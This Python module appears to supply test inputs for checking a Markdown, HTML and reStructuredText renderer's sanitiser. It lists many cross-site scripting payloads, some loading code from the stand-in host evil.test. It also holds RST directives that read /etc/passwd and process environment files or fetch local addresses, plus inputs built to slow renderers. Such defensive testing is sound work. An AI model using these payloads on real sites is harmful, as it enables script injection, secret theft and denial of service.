"""Texts that try to run script, to load from elsewhere, or to look like the page around them.

Each calls ``alert`` if it works, or changes ``document.title``; a browser that saw neither has run nothing. Written for
this suite after the known ways: handlers, addresses with schemes, elements that load or submit, parsers that disagree,
namespaces, attributes that other software gives a meaning, and Markdown's own ways to make HTML.
"""

import itertools
from collections.abc import Callable

_CODE = "alert(1)"
_HANDLER_NAMES = """
    onload onerror onclick onmouseover onfocus onblur onbegin onend ontoggle onpointerenter onanimationstart
    ontransitionend onpageshow onscroll onwheel oninput oncopy onbeforeinput onsecuritypolicyviolation onmessage
"""
_HANDLERS = _HANDLER_NAMES.split()
_ELEMENT_NAMES = "img svg body details video audio input select textarea button a div marquee object iframe p math"
_ELEMENTS = _ELEMENT_NAMES.split()
_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29",
    "javascript://example.org/%0aalert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:https://example.org/1",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "//evil.test/x",
    "/\\evil.test/x",
    "\\\\evil.test/x",
)
_HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script type=module>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\">",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math href='javascript:alert(1)'>x</math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data='javascript:alert(1)'></object>",
    "<object type=text/html data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x archive=//evil.test/x.jar></applet>",
    "<form action=javascript:alert(1)><input type=submit value=x></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<link rel=import href=https://evil.test/x.html>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style='background:url(https://evil.test/x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999'>covers</div>",
    "<x onclick=alert(1) style=display:block tabindex=1 id=x>x</x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<title><a href='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea></textarea><title></title><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=alert(1)>'>]>&x;",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img src='x' OnError='alert(1)'/>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=x alt='`onerror=alert(1)'>",
    "<img lowsrc='javascript:alert(1)' dynsrc='javascript:alert(1)'>",
    "<img srcset='javascript:alert(1) 1x, x 2x' src=x>",
    "<img src=x usemap=#m><map name=m><area shape=default href=javascript:alert(1)></map>",
    "<picture><source srcset='data:image/svg+xml,<svg onload=alert(1)>'><img src=x></picture>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)//></video>",
    "<audio src=x onerror=alert(1)>",
    "<details ontoggle=alert(1) open>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<a href='javascript:alert(1)' target=_blank>x</a>",
    "<a href=x ping=https://evil.test/>x</a>",
    "<a href='https://example.org' rel=opener target=_blank>x</a>",
    "<a name='csrf_token'></a><a id='main'></a>",
    "<form name=querySelector></form><img name=getElementById><a id=head></a>",
    "<div id=main class='site-header menu-items'>looks like the page</div>",
    "<a class='button button-primary' href='https://evil.test'>Sign in again</a>",
    "<p hx-get=/logout hx-trigger=load>x</p>",
    "<p data-hx-get=/logout data-hx-trigger=load>x</p>",
    "<div hx-on:load=alert(1)>x</div>",
    "<div data-complete=/logout data-copy=x data-theme-switch data-menu data-diagrams=https://evil.test>x</div>",
    "<p is=x-y slot=z part=q contenteditable>x</p>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<b <script>alert(1)</script>0",
    "<p>\u2028<script>alert(1)</script>",
    '<a href="jav&#x0A;ascript:alert(1);">x</a>',
    "<a href='x' onclick\n=\nalert(1)>x</a>",
    '<br size="&{alert(1)}">',
    '<div title="\n\n$\\text{" onmouseover=alert(1) x="}$\n\n">x</div>',
    '<div title="\n\n\ue0000\ue001\n\n" >$x$</div>',
    "<section><h2 id='\"><script>alert(1)</script>'>x</h2></section>",
    "<h1 title='</h1><script>alert(1)</script>'>x</h1>",
    "<input type=checkbox checked onclick=alert(1) aria-label='\"><script>alert(1)</script>'>",
)
_MARKDOWN = (
    "[x](<java\nscript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "[x](https://example.org \"' onclick=alert(1) x='\")",
    '![x](x "onerror=alert(1)")',
    '![x" onerror="alert(1)](x)',
    "![<img src=x onerror=alert(1)>](x)",
    "[<script>alert(1)</script>](x)",
    '```"><script>alert(1)</script>\nx\n```',
    '```python"onmouseover=alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    '```mermaid\ngraph TD\n  A["<img src=x onerror=alert(1)>"] --> B\n  click B "javascript:alert(1)"\n```',
    '```mermaid\n%%{init: {"securityLevel": "loose", "theme": "</style><script>alert(1)"}}%%\ngraph TD\nA-->B\n```',
    "```mermaid\n</code></pre><script>alert(1)</script>\n```",
    "```math\n\\href{javascript:alert(1)}{x}\n```",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{</mtext><script>alert(1)</script>}$",
    "$\\class{site-header}{x} \\style{background:url(javascript:alert(1))}{y}$",
    "$$\\href{javascript:alert(1)}{\\text{click}}$$",
    "$`\\unicode{<script>alert(1)</script>}`$",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    "> [!NOTE]<img src=x onerror=alert(1)>",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    '# "><script>alert(1)</script>',
    "| <script>alert(1)</script> | `<img src=x onerror=alert(1)>` |\n|-|-|\n| <img src=x onerror=alert(1)> | x |",
    "- [ ] <script>alert(1)</script>\n- [x] <img src=x onerror=alert(1)>",
    "---\ntitle: <script>alert(1)</script>\n---\n",
    '---\n"><img src=x onerror=alert(1)>: [a, {b: c}]\n---\n',
    "<div>\n\n**x** <script>alert(1)</script>\n\n</div>",
    'https://example.org/"onmouseover=alert(1)',
    "www.example.org/<script>alert(1)</script>",
    "a@example.org<script>alert(1)</script>",
    ':"><script>alert(1)</script>:',
    "\\<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "    <script>alert(1)</script>",
    '<a href="\n\njavascript:alert(1)">x</a>',
    "@<script>alert(1)</script> #<img src=x onerror=alert(1)>",
)

PAYLOADS: tuple[str, ...] = (
    *_HTML,
    *_MARKDOWN,
    *(f"<{element} src=x {handler}={_CODE}>x" for handler in _HANDLERS for element in _ELEMENTS[:3]),
    *(
        f"<{element} {_HANDLERS[index % len(_HANDLERS)]}={_CODE} tabindex=1>x"
        for index, element in enumerate(_ELEMENTS)
    ),
    *(f"<a href='{scheme}'>x</a>" for scheme in _SCHEMES),
    *(f"[x]({scheme})" for scheme in _SCHEMES),
    *(f"<img src='{scheme}'>" for scheme in _SCHEMES),
)

RST_PAYLOADS: tuple[str, ...] = (
    ".. raw:: html\n\n   <script>alert(1)</script>\n",
    ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>alert(1)</script>`\n",
    ".. include:: /etc/passwd\n",
    ".. include:: /proc/self/environ\n   :literal:\n",
    ".. literalinclude:: /etc/passwd\n",
    ".. csv-table::\n   :file: /etc/passwd\n",
    ".. csv-table::\n   :url: http://127.0.0.1:9/\n",
    ".. figure:: javascript:alert(1)\n",
    ".. image:: javascript:alert(1)\n   :target: javascript:alert(1)\n",
    ".. image:: /etc/passwd.svg\n   :loading: embed\n",
    "`x <javascript:alert(1)>`_\n",
    "`x`__\n\n__ javascript:alert(1)\n",
    ".. class:: site-header\n\nlooks like the page\n",
    ".. container:: site-header\n   :name: main\n\n   x\n",
    ".. meta::\n   :http-equiv=refresh: 0;url=javascript:alert(1)\n",
    ".. math:: \\text{<script>alert(1)</script>}\n",
    '.. code:: "><script>alert(1)</script>\n\n   x\n',
    "<script>alert(1)</script>\n=========================\n",
    '.. _"><script>alert(1)</script>:\n\nx\n',
    ".. date:: <script>alert(1)</script>\n\n|x|\n",
    ".. |x| raw:: html\n\n   <script>alert(1)</script>\n\n|x|\n",
    ".. parsed-literal::\n\n   <script>alert(1)</script>\n",
    ".. unknown:: <script>alert(1)</script>\n\n   <img src=x onerror=alert(1)>\n",
    ".. sourcecode:: html\n\n   <script>alert(1)</script>\n",
)


def _repeat(unit: str, size: int) -> str:
    return (unit * (size // len(unit) + 1))[:size]


_UNITS = {
    "nested emphasis": "*a **a ",
    "emphasis that never closes": "a**b" + "c* ",
    "underscores": "_a __b ",
    "open brackets": "[",
    "open images": "![",
    "nested links": "[a](",
    "links that never close": "[a](<b",
    "links to nothing": "[a][b] ",
    "quotes in quotes": "> ",
    "quotes without blanks": ">",
    "html that opens": "<a ",
    "html attributes": "<a x='",
    "html comments": "<!-- ",
    "html declarations": "<!A ",
    "processing instructions": "<? ",
    "character data": "<![CDATA[",
    "entities": "&amp",
    "numbers of entities": "&#x41",
    "strikes": "~~a",
    "dollars": "$a ",
    "double dollars": "$$a ",
    "backslashes": "\\",
    "shortcodes": ":a:b",
    "addresses": "http://b.test/( ",
    "addresses of mail": "a@b.",
    "hosts": "www.a",
    "pipes": "|",
    "alerts": "> [!NOTE]\n> x\n\n",
    "headings": "# a\n",
    "headings under lines": "a\n=\n",
    "line breaks": "x" + " " * 50 + "\n",
    "tables": "|a|b|\n|-|-|\n|x|y|\n\n",
    "lists": "- a\n1. b\n",
    "list marks": "- - - - ",
    "footnotes": "[^a] ",
    "nested markup": "<div><p><b><i>",
    "definitions": "[a]: b\n",
    "at signs": "@a/",
    "braces of formulas": "$\\frac{",
}


def _growing(parts: Callable[[int], str], size: int) -> str:
    out: list[str] = []
    length = 0
    for number in itertools.count():
        out.append(parts(number))
        length += len(out[-1])
        if length >= size:
            return "".join(out)[:size]
    raise AssertionError("count() has no end")


def slow_texts(size: int) -> dict[str, str]:
    """Return texts of ``size`` characters, by name, each built to cost a renderer more than its length."""
    found = {name: _repeat(unit, size) for name, unit in _UNITS.items()}
    found["backticks of all lengths"] = _growing(lambda number: "`" * (number % 1000 + 1) + "x", size)
    found["deep lists"] = _growing(lambda number: "  " * (number % 300) + "- x\n", size)
    found["many definitions"] = _growing(lambda number: f"[r{number}]: /x\n", size)
    found["many footnotes"] = _growing(lambda number: f"x[^{number}]\n\n[^{number}]: y\n\n", size)
    found["wide table"] = _growing(lambda number: "|-" * 500 + "|\n" if number == 1 else "|x" * 500 + "|\n", size)
    found["code"] = "```python\n" + _repeat("f(\n", size - 15) + "\n```\n"
    found["closed braces"] = "$" + _repeat("{", size // 2 - 1) + _repeat("}", size // 2 - 1) + "$"
    return found
